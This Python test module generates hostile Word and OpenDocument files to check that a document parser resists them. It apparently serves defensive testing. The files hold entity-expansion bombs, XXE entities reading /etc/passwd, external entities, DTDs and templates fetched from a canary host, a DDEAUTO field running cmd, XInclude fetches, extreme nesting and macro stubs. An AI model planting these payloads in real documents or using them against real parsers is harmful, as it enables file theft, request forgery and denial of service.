"""Hostile XML: entities, references to other places, depth, circles, and macros beside it."""

from __future__ import annotations

from collections.abc import Iterator

from hostile import canary
from hostile.case import BROKEN, READ, Case
from hostile.sound import W, archive, docx, odt, odt_content, paragraphs, relations, word_body, word_parts

_HOLDS = "Điều 1"
_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))


def _prologs() -> dict[str, str]:
    return {
        "billion-laughs": f'<!DOCTYPE a [<!ENTITY l0 "lol">{_LAUGHS}]>',
        "quadratic-blow-up": f'<!DOCTYPE a [<!ENTITY l9 "{"a" * 100_000}">]>',
        "file-entity": '<!DOCTYPE a [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        "http-entity": f'<!DOCTYPE a [<!ENTITY l9 SYSTEM "http://{canary.address}/a">]>',
        "parameter-entity": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://{canary.address}/p.dtd"> %p; <!ENTITY l9 "a">]>',
        "dtd-elsewhere": f'<!DOCTYPE a SYSTEM "http://{canary.address}/a.dtd" [<!ENTITY l9 "a">]>',
        "public-dtd": f'<!DOCTYPE a PUBLIC "-//X//DTD//EN" "ftp://{canary.address}/a.dtd" [<!ENTITY l9 "a">]>',
        "entity-of-itself": '<!DOCTYPE a [<!ENTITY l9 "&l8;"><!ENTITY l8 "&l9;">]>',
    }


def cases() -> Iterator[Case]:
    """Cases about XML."""
    prologs = _prologs()
    for name, prolog in prologs.items():
        yield Case(f"xml/{name}.docx", docx(word_body(paragraphs(["Điều 1. &l9;"]), prolog)))
        yield Case(f"xml/{name}.odt", odt(odt_content("<text:p>Điều 1. &l9;</text:p>", prolog)))
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{prologs["billion-laughs"]}{word_body("&l9;")}'
    yield Case(
        "xml/billion-laughs-in-utf-16.docx", archive(word_parts() | {"word/document.xml": wide.encode("utf-16")})
    )
    styles = {"word/styles.xml": f'{prologs["http-entity"]}<w:styles xmlns:w="{W}">&l9;</w:styles>'}
    parts = word_parts(rels=relations(("styles", "styles.xml"))) | styles
    yield Case("xml/entity-in-styles.docx", archive(parts), f"{READ} {BROKEN}")
    yield from _references()
    yield from _depth()
    yield from _nonsense()
    yield from _macros()


def _references() -> Iterator[Case]:
    away = [
        ("attachedTemplate", f"http://{canary.address}/evil.dotm"),
        ("image", f"\\\\{canary.address}\\share\\a.png"),
        ("oleObject", "file:///etc/passwd"),
        ("header", f"http://{canary.address}/header.xml"),
        ("styles", f"http://{canary.address}/styles.xml"),
        ("numbering", "https://example.invalid/n.xml"),
        ("frame", f"mhtml:http://{canary.address}/!x-usc"),
    ]
    for kind, target in away:
        rels = relations((kind, target), external=True)
        yield Case(f"xml/external-{kind}.docx", docx(rels=rels), READ, _HOLDS)
    inside = relations(*away)
    yield Case("xml/external-said-internal.docx", docx(rels=inside), f"{READ} {BROKEN}")
    field = f'<w:r><w:instrText>INCLUDETEXT "http://{canary.address}/a" DDEAUTO cmd "/c calc"</w:instrText></w:r>'
    begun = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{field}</w:p>'
    yield Case("xml/field-that-fetches.docx", docx(word_body(paragraphs() + begun)), READ, _HOLDS)
    chunk = '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="r0"/>'
    rels = relations(("aFChunk", f"http://{canary.address}/a.html"), external=True)
    yield Case("xml/chunk-from-elsewhere.docx", docx(word_body(paragraphs() + chunk), rels), READ, _HOLDS)
    instruction = f'<?xml-stylesheet type="text/xsl" href="http://{canary.address}/a.xsl"?>'
    yield Case("xml/stylesheet.odt", odt(odt_content("<text:p>Điều 1.</text:p>", instruction)), READ, _HOLDS)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{canary.address}/a.xml"/>'
    yield Case("xml/include.odt", odt(odt_content(f"<text:p>Điều 1.{include}</text:p>")), READ, _HOLDS)


def _depth() -> Iterator[Case]:
    """libxml2 stops at 256 levels; python-docx lets it go on."""
    for depth in (200, 5_000, 100_000):
        outcome = READ if depth < 250 else f"{BROKEN} failed:too_deep"
        holds = _HOLDS if depth < 250 else ""
        wrapped = "<w:sdt><w:sdtContent>" * (depth // 2) + paragraphs() + "</w:sdtContent></w:sdt>" * (depth // 2)
        yield Case(f"xml/deep-{depth}.docx", docx(word_body(wrapped)), outcome, holds)
        spans = "<text:span>" * depth + "Điều 1. Trách nhiệm" + "</text:span>" * depth
        yield Case(f"xml/deep-{depth}.odt", odt(odt_content(f"<text:p>{spans}</text:p>")), outcome, holds)
    table = "<w:tbl><w:tr><w:tc>" * 1_000 + paragraphs() + "</w:tc></w:tr></w:tbl>" * 1_000
    yield Case("xml/deep-tables.docx", docx(word_body(table)), f"{BROKEN} failed:too_deep")
    lists = "<text:list><text:list-item>" * 1_000 + "<text:p>Điều 1.</text:p>" + "</text:list-item></text:list>" * 1_000
    yield Case("xml/deep-lists.odt", odt(odt_content(lists)), f"{BROKEN} failed:too_deep")
    boxes = "<w:p><w:r><w:pict><w:txbxContent>" * 500 + "</w:txbxContent></w:pict></w:r></w:p>" * 500
    yield Case("xml/box-in-box.docx", docx(word_body(paragraphs() + boxes)), f"{READ} {BROKEN} failed:too_deep")


def _nonsense() -> Iterator[Case]:
    yield Case(
        "xml/attributes.docx", docx(word_body(f"<w:p {_attributes(50_000)}/>{paragraphs()}")), f"{READ} {BROKEN}"
    )
    yield Case(
        "xml/long-attribute.docx", docx(word_body(f'<w:p a="{"a" * 11_000_000}"/>{paragraphs()}')), f"{READ} {BROKEN}"
    )
    yield Case("xml/long-name.odt", odt(odt_content(f"<{'a' * 200_000}/><text:p>Điều 1.</text:p>")), f"{READ} {BROKEN}")
    yield Case("xml/not-closed.docx", docx(word_body("<w:p>")[:-20]))
    yield Case("xml/control-characters.docx", docx(word_body(paragraphs(["Điều 1.\x01\x02"]))))
    yield Case("xml/other-root.docx", docx("<html><body>Điều 1.</body></html>"), "failed:not_docx")
    based = "".join(
        f'<w:style w:styleId="s{at}" w:type="paragraph"><w:basedOn w:val="s{(at + 1) % 3}"/></w:style>'
        for at in range(3)
    )
    styled = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>Điều 1.</w:t></w:r></w:p>'
    styles = {"word/styles.xml": f'<w:styles xmlns:w="{W}">{based}</w:styles>'}
    circle = word_parts(word_body(styled), relations(("styles", "styles.xml"))) | styles
    yield Case("xml/styles-in-a-circle.docx", archive(circle), READ, _HOLDS)
    numbers = {"word/numbering.xml": f'<w:numbering xmlns:w="{W}">{_numbering()}</w:numbering>'}
    listed = '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999999"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    numbered = word_parts(word_body(listed * 50 + paragraphs()), relations(("numbering", "numbering.xml"))) | numbers
    yield Case("xml/numbers-without-end.docx", archive(numbered), READ, _HOLDS)
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    yield Case("xml/span-without-end.docx", docx(word_body(span + paragraphs())), READ, _HOLDS)
    codes = "".join(f'<w:sym w:font="Wingdings" w:char="{code}"/>' for code in ("D800", "-1", "FFFFFFFF", "zz", "0"))
    yield Case("xml/odd-symbols.docx", docx(word_body(f"<w:p><w:r>{codes}</w:r></w:p>{paragraphs()}")), READ, _HOLDS)
    fields = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 2_000
    yield Case("xml/fields-never-ended.docx", docx(word_body(fields + paragraphs())), READ)


def _attributes(count: int) -> str:
    return " ".join(f'a{at}="1"' for at in range(count))


def _numbering() -> str:
    text = '<w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/>'
    big = "9" * 5_000
    levels = "".join(f'<w:lvl w:ilvl="{at}"><w:start w:val="{big}"/>{text}</w:lvl>' for at in range(12))
    named = '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    return f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>{named}'


def _macros() -> Iterator[Case]:
    """What runs when a document is opened in Word or LibreOffice; here nothing runs."""
    macro = relations(("vbaProject", "vbaProject.bin"))
    yield Case("macro/vba.docx", docx(rels=macro, word__vbaProject_bin="Sub AutoOpen()"), READ, _HOLDS)
    typed = str(word_parts()["[Content_Types].xml"]).replace("wordprocessingml.document", "wordprocessingml.template")
    yield Case("macro/template.docx", archive(word_parts() | {"[Content_Types].xml": typed}), READ, _HOLDS)
    event = '<script:event-listener xmlns:script="urn:x" script:event-name="dom:load" href="vnd.sun.star.script:a"/>'
    basic = odt(odt_content(f"{event}<text:p>Điều 1.</text:p>"), Basic__Standard__a_xml="Sub Main : Shell : End Sub")
    yield Case("macro/basic.odt", basic, READ, _HOLDS)
